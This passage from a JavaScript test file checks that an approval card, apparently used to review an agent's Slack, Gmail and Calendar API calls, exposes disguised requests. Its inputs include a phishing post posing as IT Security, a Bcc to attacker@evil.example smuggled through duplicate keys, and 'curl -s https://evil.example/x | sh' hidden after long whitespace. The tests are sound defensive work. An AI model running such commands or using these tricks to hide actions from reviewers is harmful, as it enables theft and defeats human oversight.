        channel: 'C0GENERAL', text: 'reset your password', username: 'IT Security (Acme)', icon_url: 'https://evil.example/logo.png', thread_ts: '1.2', reply_broadcast: true,
        markdown_text: '**click here**', blocks: [{ type: 'rich_text', elements: [{ type: 'rich_text_section', elements: [{ type: 'broadcast', range: 'everyone' }] }] }],
      });
      expect(field(d, 'Posted as')).to.equal('IT Security (Acme)');
      expect(field(d, 'Icon')).to.equal('https://evil.example/logo.png');
      expect(field(d, 'Also sent to the channel')).to.equal('true');
      expect(field(d, 'Markdown text')).to.equal('**click here**');
      expect(field(d, 'Blocks')).to.equal('@everyone');
    });

    it('a key a lenient parser folds onto another (RAW beside raw, " channel" beside channel) makes the card unreadable, as the policy reads none', () => {
      const to = Buffer.from('To: boss@acme.com\r\n\r\nx').toString('base64url');
      const bcc = Buffer.from('To: boss@acme.com\r\nBcc: attacker@evil.example\r\n\r\nx').toString('base64url');
      expect(gmailSend('To: boss@acme.com\n\nx', { RAW: bcc, raw: to })?.unreadable).to.match(/more than one way/);
      const f = describeRequest({ method: 'POST', host: 'slack.com', path: '/api/chat.postMessage', headers: form, body: 'channel=C0TEAM&text=hello&%20channel=C0EXTERNAL' });
      expect(field(f, 'Channel')).to.equal('C0TEAM');
      expect(f?.unreadable).to.match(/more than one way/);
    });

    it('a value cut at the card\'s length, or fields left out, make the card say so', () => {
      const d = slack({ channel: 'C0', text: `ls -la ./reports${' '.repeat(520)}&& curl -s https://evil.example/x | sh` });
      expect(field(d, 'Text')).to.match(/more characters\)$/);
      expect(d?.unreadable).to.match(/cuts 1 value/);
    });

    it('Calendar: a recurring event shows its rule and the start\'s time zone', () => {
      const d = describeRequest({ method: 'POST', host: 'www.googleapis.com', path: '/calendar/v3/calendars/primary/events', headers: json(0), body: JSON.stringify({ summary: 'Sync', start: { dateTime: '2026-12-01T09:00:00', timeZone: 'Europe/Paris' }, end: { dateTime: '2026-12-01T09:30:00' }, recurrence: ['RRULE:FREQ=DAILY;COUNT=365'] }) });
      expect(field(d, 'When')).to.equal('2026-12-01T09:00:00 → 2026-12-01T09:30:00 (Europe/Paris)');
      expect(field(d, 'Repeats')).to.equal('RRULE:FREQ=DAILY;COUNT=365');
    });

    it('drafts.send with a saved draft\'s id beside a message is unreadable, card and policy alike (Gmail may send the saved one)', () => {
      const raw = Buffer.from('To: boss@acme.com\r\n\r\nx').toString('base64url');
      const req = { method: 'POST', host: 'gmail.googleapis.com', path: '/gmail/v1/users/me/drafts/send', headers: json(0), body: JSON.stringify({ id: 'r-123', message: { raw } }) };
      const d = describeRequest(req);
      expect(d?.unreadable).to.match(/saved draft and a message/);
      expect(field(d, 'To')).to.equal(undefined);
      expect(factsOf(req, '').recipients).to.equal(null);
      expect(factsOf({ ...req, body: JSON.stringify({ message: { raw } }) }, '').recipients).to.deep.equal(['boss@acme.com']);
    });

    it('Calendar: a call that is not an event edit (events/watch: notifications to the agent\'s address) is not shown as one', () => {
      const d = describeRequest({ method: 'POST', host: 'www.googleapis.com', path: '/calendar/v3/calendars/primary/events/watch', headers: json(0), body: JSON.stringify({ id: 'ch1', type: 'web_hook', address: 'https://evil.example/hook' }) });
      expect(field(d, 'Call')).to.equal('events/watch');
      expect(d?.unreadable).to.match(/not one the card can show/);
      expect(field(d, 'Guests')).to.equal(undefined);
    });
  });
});
